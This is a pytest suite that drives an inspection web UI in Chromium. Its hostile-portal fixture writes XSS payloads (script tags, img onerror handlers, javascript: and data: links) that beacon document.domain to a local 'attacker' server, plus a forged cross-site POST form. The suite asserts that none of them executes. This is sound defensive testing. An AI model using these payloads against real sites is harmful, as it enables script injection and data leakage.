"""The web UI served for real (uvicorn on 127.0.0.1) and driven in Debian's Chromium through Playwright.

The crawled fixture farm, checked as of 2024-09-30, is the morning's material; a hostile portal (script
in titles, bodies, attachment names and links) is crawled, checked and shown with nothing executing.
`pytest tests/test_web_browser.py --screenshots docs/img` also saves the screens the inspector guide shows.
"""

from __future__ import annotations

import io
import re
import threading
import time
from collections.abc import Iterator
from datetime import date
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from sqlalchemy import select

from core.settings import CHROMIUM_ARGS, Settings
from storage.accounts import add_user
from storage.db import make_engine, make_sessionmaker, upgrade
from storage.models import AllowEntry, DeductionEvent, Finding, Unit
from tests.conftest import settings_for
from web.app import create_app

PASSWORD = "inspector-pass-1"
pytestmark = pytest.mark.browser


class Served:
    def __init__(self, settings: Settings) -> None:
        import uvicorn

        from fixtures.farm import closed_port

        self.settings = settings
        self.engine = make_engine(settings.database_url)
        self.Session = make_sessionmaker(self.engine)
        self.port = closed_port()
        self.url = f"http://127.0.0.1:{self.port}"
        config = uvicorn.Config(create_app(settings, self.Session), host="127.0.0.1", port=self.port, log_level="warning")
        self.server = uvicorn.Server(config)
        self.thread = threading.Thread(target=self.server.run, daemon=True)

    def __enter__(self) -> Served:
        self.thread.start()
        for _ in range(200):
            if self.server.started:
                return self
            time.sleep(0.05)
        raise RuntimeError("uvicorn did not start")

    def __exit__(self, *exc: object) -> None:
        self.server.should_exit = True
        self.thread.join(timeout=10)
        self.engine.dispose()


def add_accounts(Session) -> None:
    with Session() as s, s.begin():
        for name, role in (("张考评", "inspector"), ("李只读", "viewer"), ("王管理", "admin")):
            add_user(s, name, role, PASSWORD)


@pytest.fixture
def browser() -> Iterator:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as pw:
        chromium = pw.chromium.launch(executable_path=Settings().chromium_path, headless=True, args=CHROMIUM_ARGS)
        yield chromium
        chromium.close()


@pytest.fixture
def shots(request: pytest.FixtureRequest):
    """Save a screenshot under --screenshots DIR when given (the guide's pictures), else do nothing."""
    target = request.config.getoption("--screenshots")

    def shot(page, name: str, full_page: bool = False) -> None:
        if target:
            Path(target).mkdir(parents=True, exist_ok=True)
            page.screenshot(path=str(Path(target) / f"{name}.png"), full_page=full_page)

    return shot


def login(browser, url: str, name: str):
    context = browser.new_context(accept_downloads=True, viewport={"width": 1400, "height": 900}, locale="zh-CN")
    page = context.new_page()
    page.goto(url + "/")
    assert "/login" in page.url
    page.fill("input[name=name]", name)
    page.fill("input[name=password]", PASSWORD)
    page.click("form button[type=submit]")
    page.wait_for_url(url + "/")
    return context, page


def watch(page, seen: list[str]) -> None:
    """Record every dialog (alert/confirm) and every CSP refusal the page reports."""
    def on_dialog(dialog) -> None:
        seen.append(f"dialog:{dialog.message}")
        dialog.dismiss()

    page.on("dialog", on_dialog)
    page.on("console", lambda m: seen.append(f"console:{m.text}") if "Content Security Policy" in m.text else None)


def pending(Session, unit: str | None = None) -> set[int]:
    with Session() as s:
        q = select(DeductionEvent.id).join(Unit).where(DeductionEvent.state == "pending")
        if unit:
            q = q.where(Unit.slug == unit)
        return set(s.scalars(q))


def test_inspector_morning_in_chromium(cli, crawled, browser, shots, tmp_path: Path) -> None:
    """Log in, filter, bulk confirm, keyboard confirm, evidence, false alarm, appeal with a file and decide,
    the quarter's charts and the export."""
    from playwright.sync_api import expect

    Session_, _, settings = crawled
    settings = settings.model_copy(update={"upload_dir": tmp_path / "uploads", "data_dir": tmp_path / "var"})
    add_accounts(Session_)
    with Served(settings) as served:
        context, page = login(browser, served.url, "张考评")
        seen: list[str] = []
        watch(page, seen)
        shots(page, "审核队列")
        assert page.locator("table.queue tbody tr[data-id]").count() > 0
        # filter by unit, select the page, confirm
        page.select_option("select[name=unit]", "yunhe-jyj")
        page.click("form.filters button[type=submit]")
        page.wait_for_url(re.compile(r".*unit=yunhe-jyj.*"))
        jyj = pending(Session_, "yunhe-jyj")
        assert page.locator("table.queue tbody tr[data-id]").count() == len(jyj) > 0
        page.check("#select-all")
        page.click("#bulk-confirm")
        page.wait_for_selector(".flash.ok")
        assert f"已确认 {len(jyj)} 条" in page.inner_text(".flash.ok")
        assert not pending(Session_, "yunhe-jyj")
        # the keyboard: j to the first row, c confirms it
        page.goto(served.url + "/?state=pending&unit=yunhe-gov")
        first = int(page.locator("table.queue tbody tr[data-id]").first.get_attribute("data-id"))
        page.keyboard.press("j")
        page.keyboard.press("c")
        page.wait_for_selector(".flash.ok")
        with Session_() as s:
            assert s.get(DeductionEvent, first).state == "confirmed"
        # r: select the row and write the reason; Enter in the reason rejects (never confirms)
        page.goto(served.url + "/?state=pending&unit=yunhe-gov")
        second = int(page.locator("table.queue tbody tr[data-id]").first.get_attribute("data-id"))
        page.keyboard.press("j")
        page.keyboard.press("r")
        page.keyboard.type("该栏目已于9月迁移至新网址")
        page.keyboard.press("Enter")
        page.wait_for_selector(".flash.ok")
        assert "已驳回 1 条" in page.inner_text(".flash.ok")
        with Session_() as s:
            rejected = s.get(DeductionEvent, second)
            assert (rejected.state, rejected.reason, rejected.decided_by) == ("rejected", "该栏目已于9月迁移至新网址", "张考评")
        # evidence of a text finding: highlighted context, the captured page in its sandbox
        page.goto(served.url + "/?state=pending&check=text.sensitive")
        page.locator("table.queue tbody tr[data-id] a.evidence").first.click()
        page.wait_for_selector("iframe.captured")
        assert page.locator("ul.contexts mark").count() >= 1
        frame = page.frame_locator("iframe.captured")
        assert frame.locator("body").inner_text(timeout=5000).strip()
        shots(page, "证据")
        page.locator("iframe.captured").scroll_into_view_if_needed()
        shots(page, "抓取时的页面")
        finding_id = int(page.url.rsplit("/", 1)[1].split("#")[0])
        with page.expect_download() as warc:
            page.locator("a", has_text="下载 WARC").first.click()
        assert warc.value.suggested_filename.endswith(".warc.gz")
        # reject as a false alarm, allow-listed in one step
        page.fill("#false-alarm input[name=reason]", "报道打击违法活动，属正当引用")
        page.click("#false-alarm button[type=submit]")
        page.wait_for_selector(".flash.ok")
        with Session_() as s:
            finding = s.get(Finding, finding_id)
            assert finding.closed_as == "false_alarm"
            assert {e.state for e in finding.events} == {"rejected"}
            assert s.scalar(select(AllowEntry.created_by)) == "张考评"
        # an appeal against a confirmed event, with a file, then decided
        page.goto(served.url + "/appeals")
        page.locator("table >> nth=1").locator("a").first.click()
        # under load the summary could be clicked on the page being left; open it on the finding, then fill
        page.wait_for_url(re.compile(r".*/findings/\d+"))
        box = page.locator("details", has=page.locator("summary", has_text="登记复核申请")).first
        box.locator("summary").click()
        expect(box).to_have_attribute("open", "")
        form = box.locator("form.appeal-form")
        expect(form.locator("textarea[name=reason]")).to_be_visible()
        form.locator("textarea[name=reason]").fill("该栏目已于9月迁移至新网址，附迁移通知")
        pdf = tmp_path / "迁移通知.pdf"
        pdf.write_bytes(b"%PDF-1.4\n% zwgk test\n" + b"0" * 500)
        form.locator("input[type=file]").set_input_files(str(pdf))
        form.locator("button[type=submit]").click()
        page.wait_for_url(served.url + "/appeals")
        assert "迁移通知.pdf" in page.inner_text("table.appeals")
        shots(page, "复核")
        decide = page.locator("form.decide-appeal").first
        decide.locator("input[name=reason]").fill("核实已迁移，撤销扣分")
        decide.locator("button", has_text="撤销扣分").click()
        page.wait_for_selector(".flash.ok")
        assert "撤销扣分" in page.inner_text("table.appeals")
        # the quarter at a glance: charts, and the export downloaded
        page.goto(served.url + "/quarter?q=2024Q3")
        assert page.locator("svg.chart").count() >= 4
        shots(page, "季度概览", full_page=True)
        with page.expect_download() as download:
            page.click("#export")
        path = tmp_path / "export.xlsx"
        download.value.save_as(path)
        from openpyxl import load_workbook

        assert len(load_workbook(path).worksheets) >= 2
        page.goto(served.url + "/ops")
        shots(page, "运行情况")
        assert page.locator("svg.chart").count() == 1
        assert [s for s in seen if s.startswith("dialog")] == []
        context.close()


def test_viewer_cannot_confirm_and_a_forged_post_is_refused(cli, crawled, browser, tmp_path: Path) -> None:
    Session_, _, settings = crawled
    add_accounts(Session_)
    before = pending(Session_)
    attacker = _HostileSite(tmp_path / "attacker")
    with Served(settings.model_copy(update={"data_dir": tmp_path / "var"})) as served, attacker:
        context, page = login(browser, served.url, "李只读")
        assert page.locator("#bulk-confirm").count() == 0 and page.locator("button.row-confirm").count() == 0
        some = sorted(before)[0]
        # the viewer's own session and token, posted by hand: refused on the server
        status = page.evaluate("""async ([id]) => {
            const body = new FormData();
            body.append('csrf', document.querySelector('input[name=csrf]').value);
            body.append('ids', String(id)); body.append('action', 'confirm');
            return (await fetch('/events/decide', {method: 'POST', body})).status; }""", [some])
        assert status == 403
        context.close()
        # an inspector visits another site that posts a form at the UI: no token, refused
        context, page = login(browser, served.url, "张考评")
        attacker.write("forge.html", f"""<html><body><form id=f method=post action="{served.url}/events/decide">
            <input name=ids value="{some}"><input name=action value=confirm></form>
            <script>document.getElementById('f').submit()</script></body></html>""")
        with page.expect_response(f"{served.url}/events/decide") as answer:
            page.goto(attacker.url + "/forge.html")
        assert answer.value.status == 403
        context.close()
    assert pending(Session_) == before


def test_unauthenticated_browser_sees_only_the_login(cli, crawled, browser) -> None:
    _, _, settings = crawled
    with Served(settings) as served:
        context = browser.new_context()
        page = context.new_page()
        for path in ("/", "/quarter", "/ops", "/audit", "/appeals", "/allow", "/findings/1", "/raw/snapshots/1",
                     "/snapshots/1/warc", "/export?q=2024Q3", "/units/yunhe-jyj", "/appeal-files/1"):
            page.goto(served.url + path)
            assert page.url.startswith(served.url + "/login"), path
            assert page.locator("input[name=password]").count() == 1
        context.close()


class _HostileSite:
    """A static site on 127.0.0.1 that also counts requests to /beacon (what a payload would call home)."""

    def __init__(self, root: Path) -> None:
        root.mkdir(parents=True, exist_ok=True)
        self.root = root
        self.beacons: list[str] = []
        site = self

        class Handler(SimpleHTTPRequestHandler):
            def __init__(self, *args, **kwargs) -> None:
                super().__init__(*args, directory=str(root), **kwargs)

            def log_message(self, format: str, *args: object) -> None:
                pass

            def do_GET(self) -> None:
                if self.path.startswith("/beacon"):
                    site.beacons.append(self.path)
                super().do_GET()

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def write(self, rel: str, text: str) -> None:
        path = self.root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")

    def __enter__(self) -> _HostileSite:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()


def _build_hostile(site: _HostileSite) -> None:
    beacon = site.url + "/beacon"
    js = f"new Image().src='{beacon}?'+document.domain;alert(1)"
    title = f"<script>{js}</script><img src=x onerror=\"{js}\">关于开展专项整治的通报"
    escaped_title = title.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    attachment = f"<img src=x onerror={js}>整治方案.docx"
    escaped_attachment = attachment.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    chrome = "<div class=\"header\"><a href=\"/\">恶意测试局</a></div>"
    site.write("index.html", f"<html><head><meta charset=utf-8><title>恶意测试局</title><script>{js}</script></head>"
               f"<body>{chrome}<a href=\"/zfxxgk/gzdt/index.html\">工作动态</a></body></html>")
    site.write("zfxxgk/gzdt/index.html", f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>工作动态</title>
<script>{js}</script></head><body>{chrome}<div class="right"><h2 class="lm-title">工作动态</h2><ul class="list">
<li><a href="./202001/t20200105_1.html" title="{escaped_title}">{escaped_title}</a><span class="date">2020-01-05</span></li>
<li><a href="javascript:{js}">javascript 链接</a><span class="date">2020-01-04</span></li>
</ul></div></body></html>""")
    site.write("zfxxgk/gzdt/202001/t20200105_1.html", f"""<!DOCTYPE html><html><head><meta charset="utf-8">
<title>{escaped_title}</title><script>{js}</script></head><body onload="{js}">{chrome}
<h1 class="title">{escaped_title}</h1><div class="info">发布时间：2020-01-05 09:30</div>
<div class="content" id="zoom"><p>　　另有境外网站宣扬法 轮 功邪教内容，请广大群众提高警惕。<script>{js}</script></p>
<p><img src="x" onerror="{js}"><a href="javascript:{js}">点击查看</a>
<a href="data:text/html,&lt;script&gt;{js}&lt;/script&gt;">数据链接</a></p>
<p>附件：<a href="./P020200105_fa.docx">{escaped_attachment}</a></p></div></body></html>""")
    from docx import Document

    doc = Document()
    doc.add_paragraph("另有境外网站宣扬法 轮 功邪教内容，请广大群众提高警惕。")
    buffer = io.BytesIO()
    doc.save(buffer)
    (site.root / "zfxxgk/gzdt/202001/P020200105_fa.docx").write_bytes(buffer.getvalue())


def test_hostile_portal_is_crawled_and_shown_with_nothing_executing(browser, tmp_path: Path) -> None:
    from jobs.check import run_checks
    from tests.conftest import crawl_on
    from zwgk.units_file import import_registry, parse_registry

    url = f"sqlite:///{tmp_path / 'hostile.sqlite'}"
    upgrade(url)
    engine = make_engine(url)
    Session_ = make_sessionmaker(engine)
    with _HostileSite(tmp_path / "site") as site:
        _build_hostile(site)
        registry = parse_registry(f"""jurisdiction: 测试县
scheme: yunhe-2022
level: county
units:
  - id: evil
    name: 恶意测试局
    kind: department
    portal: {site.url}/
    internal: true
    columns:
      - {{name: 工作动态, url: {site.url}/zfxxgk/gzdt/index.html, category: news}}
""", "hostile.yaml")
        with Session_() as s, s.begin():
            import_registry(s, registry)
        settings = settings_for(url, data_dir=tmp_path / "var", check_links=False)
        crawl_on(date(2024, 9, 30), settings, Session_)  # the night of the as-of date (libfaketime)
        run_checks(Session_, date(2024, 9, 30))
        assert site.beacons == []  # crawling ran nothing either
        with Session_() as s:
            findings = list(s.scalars(select(Finding)))
        checks = {f.check for f in findings}
        assert {"column.stale", "text.sensitive"} <= checks, checks
        attachment = [f for f in findings if f.subject_key.startswith("attachment:")]
        assert attachment and "onerror" in attachment[0].subject  # the hostile file name is what the UI shows
        assert any("<script>" in f.detail or "<script>" in f.subject for f in findings)
        add_accounts(Session_)
        with Served(settings) as served:
            context, page = login(browser, served.url, "张考评")
            seen: list[str] = []
            watch(page, seen)
            paths = ["/", "/?state=pending&unit=evil", "/units/evil", "/ops", "/quarter", "/audit"]
            paths += [f"/findings/{f.id}" for f in findings]
            for path in paths:
                page.goto(served.url + path)
                page.wait_for_load_state("load")
                if page.locator("iframe.captured").count():
                    page.frame_locator("iframe.captured").locator("body").inner_text(timeout=5000)
                assert page.title() != "PWNED" and "PWNED" not in page.title()
                # no link in the UI leads to javascript: or data:
                hrefs = page.eval_on_selector_all("a[href]", "as => as.map(a => a.getAttribute('href'))")
                assert not [h for h in hrefs if re.match(r"\s*(javascript|data):", h, re.I)], (path, hrefs)
            # the payloads are on screen as text
            page.goto(served.url + f"/findings/{attachment[0].id}")
            assert "onerror" in page.inner_text("h1")
            time.sleep(0.5)  # give any stray image request time to reach the beacon
            context.close()
    engine.dispose()
    assert site.beacons == [], site.beacons
    assert [s for s in seen if s.startswith("dialog")] == []
    # a CSP report would mean markup was injected into the UI and only the policy stopped it
    assert [s for s in seen if s.startswith("console") and "inline" in s] == []

